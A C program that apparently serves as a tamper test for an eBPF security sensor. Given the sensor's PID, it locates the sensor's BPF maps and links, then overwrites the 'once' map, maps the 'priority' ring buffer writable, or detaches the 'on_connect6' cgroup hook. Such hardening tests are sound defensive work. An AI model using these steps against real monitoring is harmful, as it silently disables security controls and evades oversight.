// SPDX-License-Identifier: Apache-2.0
// What a step with root can do to a running sensor by bpf(2), one thing a run: attack look|map|ring|link PID, the sensor's.
#define _GNU_SOURCE
#include <dirent.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static long bpf(int command, union bpf_attr *attributes) {
    return syscall(SYS_bpf, command, attributes, sizeof *attributes);
}

// The ids that a process's descriptors show, one a call; 0 after the last. `key`: map_id or link_id.
static unsigned next_id(DIR *descriptors, const char *pid, const char *key) {
    for (struct dirent *entry; (entry = readdir(descriptors));) {
        char path[300], line[128];
        unsigned id = 0, length = (unsigned)strlen(key);
        snprintf(path, sizeof path, "/proc/%s/fdinfo/%s", pid, entry->d_name);
        FILE *file = fopen(path, "r");
        while (file && fgets(line, sizeof line, file))
            if (!strncmp(line, key, length) && line[length] == ':')
                id = (unsigned)strtoul(line + length + 1, NULL, 10);
        if (file)
            fclose(file);
        if (id)
            return id;
    }
    return 0;
}

static DIR *descriptors_of(const char *pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/fdinfo", pid);
    return opendir(path);
}

static int by_id(int command, unsigned id) {
    union bpf_attr attributes = {.map_id = id};
    return (int)bpf(command, &attributes);
}

static int info(int fd, void *to, unsigned size) {
    union bpf_attr attributes = {.info = {.bpf_fd = (unsigned)fd, .info_len = size, .info = (unsigned long)to}};
    return (int)bpf(BPF_OBJ_GET_INFO_BY_FD, &attributes);
}

static int map_named(const char *pid, const char *name) {
    DIR *descriptors = descriptors_of(pid);
    for (unsigned id; descriptors && (id = next_id(descriptors, pid, "map_id"));) {
        struct bpf_map_info map = {0};
        int fd = by_id(BPF_MAP_GET_FD_BY_ID, id);
        if (fd >= 0 && !info(fd, &map, sizeof map) && !strcmp(map.name, name))
            return fd;
        close(fd);
    }
    return -1;
}

static int edit_map(const char *pid) {
    char key[64] = {0}, value[64] = {0};
    union bpf_attr attributes = {.map_fd = (unsigned)map_named(pid, "once"), .key = (unsigned long)key, .value = (unsigned long)value};
    return (int)bpf(BPF_MAP_UPDATE_ELEM, &attributes);
}

static int map_ring(const char *pid) {
    return mmap(NULL, (size_t)sysconf(_SC_PAGESIZE), PROT_READ | PROT_WRITE, MAP_SHARED, map_named(pid, "priority"), 0) == MAP_FAILED;
}

static int detach_link(const char *pid) {
    DIR *descriptors = descriptors_of(pid);
    for (unsigned id; descriptors && (id = next_id(descriptors, pid, "link_id"));) {
        struct bpf_link_info link = {0};
        struct bpf_prog_info program = {0};
        int fd = by_id(BPF_LINK_GET_FD_BY_ID, id);
        if (fd < 0 || info(fd, &link, sizeof link) || link.type != BPF_LINK_TYPE_CGROUP ||
            info(by_id(BPF_PROG_GET_FD_BY_ID, link.prog_id), &program, sizeof program) || strcmp(program.name, "on_connect6"))
            continue;
        union bpf_attr attributes = {.link_detach = {.link_fd = (unsigned)fd}};
        return (int)bpf(BPF_LINK_DETACH, &attributes);
    }
    return 1;
}

int main(int argc, char **argv) {
    if (argc != 3)
        return 2;
    const char *what = argv[1], *pid = argv[2];
    if (!strcmp(what, "map"))
        return edit_map(pid);
    if (!strcmp(what, "ring"))
        return map_ring(pid);
    if (!strcmp(what, "link"))
        return detach_link(pid);
    return map_named(pid, "priority") < 0;
}
